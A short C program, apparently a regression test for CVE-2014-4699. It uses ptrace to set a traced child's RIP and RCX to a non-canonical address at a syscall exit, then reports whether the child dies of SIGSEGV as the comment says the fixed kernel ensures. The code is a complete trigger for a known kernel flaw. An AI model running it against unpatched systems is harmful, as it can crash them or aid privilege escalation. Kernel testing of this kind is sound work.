// CVE-2014-4699: a tracer rewrites RIP (and RCX with it, so that rcx == rip still holds) at a
// syscall-exit stop to a non-canonical address. A kernel that returned with SYSRET would fault
// in ring 0 on Intel (with the user's RSP already loaded); Linux checks the address and returns
// by IRET, whose #GP is the tracee's: it dies of SIGSEGV.
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	pid_t pid = fork();
	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, 0, 0);
		raise(SIGSTOP);
		syscall(SYS_getppid);
		_exit(0);
	}
	int st;
	waitpid(pid, &st, 0);
	ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACESYSGOOD);
	struct user_regs_struct r;
	int entering = 1;
	for (;;) {
		ptrace(PTRACE_SYSCALL, pid, 0, 0);
		waitpid(pid, &st, 0);
		if (!WIFSTOPPED(st)) { printf("unexpected end %#x\n", st); return 1; }
		ptrace(PTRACE_GETREGS, pid, 0, &r);
		if (!entering && r.orig_rax == SYS_getppid) break;
		entering = !entering;
	}
	r.rip = r.rcx = 0x800000000000ULL;
	long v = ptrace(PTRACE_SETREGS, pid, 0, &r);
	printf("SETREGS rip = rcx = %#llx at the exit of getppid: %ld\n", (unsigned long long)r.rip, v);
	ptrace(PTRACE_CONT, pid, 0, 0);
	waitpid(pid, &st, 0);
	if (WIFSTOPPED(st)) {
		siginfo_t si;
		ptrace(PTRACE_GETSIGINFO, pid, 0, &si);
		printf("tracee stopped by signal %d (si_code %d)\n", WSTOPSIG(st), si.si_code);
		ptrace(PTRACE_CONT, pid, 0, WSTOPSIG(st));
		waitpid(pid, &st, 0);
	}
	printf("tracee %s %d\n", WIFSIGNALED(st) ? "killed by signal" : "exited with", WIFSIGNALED(st) ? WTERMSIG(st) : WEXITSTATUS(st));
	return 0;
}
